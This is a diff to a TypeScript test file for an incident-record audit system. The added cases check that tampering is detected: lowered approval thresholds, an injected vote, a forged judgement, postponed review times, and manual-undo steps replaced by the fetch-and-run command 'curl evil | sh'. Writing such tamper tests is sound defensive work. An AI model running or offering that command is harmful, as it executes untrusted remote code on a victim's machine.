@@ -3,18 +3,28 @@ import { describe, expect, test } from 'vitest';
 import { archive, type Change } from '../../functions/archive/archive.ts';
 import { append, moveTo, noted } from '../../functions/audit/chain.ts';
 import type { Action } from '../../functions/domain/action.ts';
+import { attention } from '../../functions/store/records.ts';
 import { toyAction } from '../execute/toy.ts';
-import { NOW } from '../fixtures/case.ts';
+import { incidentWith, NOW } from '../fixtures/case.ts';
+import { requestWith, waiting } from '../web/desk.ts';
 
-const proposed = toyAction();
+const soon = '2026-11-24T05:00:00.000Z';
+const proposed = toyAction({ attentionAt: soon });
 const executing = moveTo(proposed, 'executing', { at: NOW, by: 'execute', text: 'State recorded' });
-const inForce = moveTo(executing, 'in-force', { at: NOW, by: 'execute', text: 'Applied' });
+const inForce = moveTo(
+  executing,
+  'in-force',
+  { at: NOW, by: 'execute', text: 'Applied' },
+  { dueAt: soon },
+);
+const asked = waiting({ approval: requestWith({ required: 2 }) });
 
 const item = (record: Action) => ({
   pk: `INCIDENT#${record.incidentId}`,
   sk: `ACTION#${record.actionId}`,
   record,
   version: record.version,
+  ...attention(record),
 });
 
 async function archived(before: Action | null, after: Action | null, change = {}) {
@@ -102,6 +112,7 @@ describe('P8: it is an error in the log, and copied all the same, when', () => {
     ...change,
   });
   const [first, second] = inForce.history;
+  const described = { headline: '', changes: [], affected: [], undo: '' };
 
   test.each<[string, Action | null, Action | null, string]>([
     ['a record is removed', inForce, null, 'it was removed'],
@@ -173,6 +184,55 @@ describe('P8: it is an error in the log, and copied all the same, when', () => {
       next({ dueAt: '2099-01-01T00:00:00.000Z' }),
       'dueAt was changed without an entry',
     ],
+    [
+      'the sweeper is kept from it',
+      inForce,
+      next({ attentionAt: null }),
+      'it is in-force, and nobody looks at it any more',
+    ],
+    [
+      'the sweeper is put off',
+      inForce,
+      next({ attentionAt: '2099-01-01T00:00:00.000Z' }),
+      'it is in-force, and nobody looks at it before 2099',
+    ],
+    [
+      'one person is to be enough',
+      asked,
+      { ...asked, approval: { ...asked.approval!, required: 1 }, version: asked.version + 1 },
+      'approval was changed without an entry',
+    ],
+    [
+      'a vote is put in',
+      asked,
+      {
+        ...asked,
+        approval: {
+          ...asked.approval!,
+          votes: [{ verdict: 'approved', by: 'mallory', at: NOW.toISOString(), reason: '' }],
+        },
+        version: asked.version + 1,
+      },
+      'approval was changed without an entry',
+    ],
+    [
+      'somebody else’s judgement is put in',
+      inForce,
+      next({ judgement: { verdict: 'right', by: 'x', at: NOW.toISOString(), note: '' } }),
+      'judgement was changed without an entry',
+    ],
+    [
+      'another function is to undo it',
+      inForce,
+      next({ scope: 'mail' }),
+      'scope was changed without an entry',
+    ],
+    [
+      'the commands to undo it by hand are others',
+      inForce,
+      next({ description: { ...described, manualUndo: ['curl evil | sh'] } }),
+      'description was changed without an entry',
+    ],
     ['an earlier version is put back', inForce, executing, 'its version went from 3 to 2'],
     [
       'its author is another',
@@ -189,6 +249,34 @@ describe('P8: it is an error in the log, and copied all the same, when', () => {
   ])('%s', async (_, before, after, fault) => {
     expect(await faultsOf(before, after)).toContainEqual(expect.stringContaining(fault));
     expect((await archived(before, after)).copies).toHaveLength(1);
+  });
+
+  test('the index does not list what the record says is due', async () => {
+    const { open: _open, ...hidden } = item(next({})) as ReturnType<typeof item> & { open: string };
+    const { lines } = await archived(inForce, next({}), { after: hidden });
+    expect(lines).toEqual([
+      ['error: record altered', ['the index does not list it as its record says']],
+    ]);
+  });
+
+  test('an alert is taken out of its incident, but not when it came again', async () => {
+    const incident = incidentWith();
+    const about = (record: typeof incident) => ({
+      pk: `INCIDENT#${record.incidentId}`,
+      sk: 'INCIDENT',
+      record,
+      ...attention(record),
+    });
+    const withAlerts = (alerts: object[]) => ({
+      sk: 'INCIDENT',
+      before: about(incident),
+      after: { ...about(incident), record: { ...incident, alerts, version: 2 } },
+    });
+    const again = incident.alerts.map((one) => ({ ...one, repeats: one.repeats + 1 }));
+    expect((await archived(null, null, withAlerts(again))).lines).toEqual([]);
+    expect((await archived(null, null, withAlerts([]))).lines).toEqual([
+      ['error: record altered', ['alerts was changed without an entry']],
+    ]);
   });
 
   test('a switch is removed, which then stands at run', async () => {
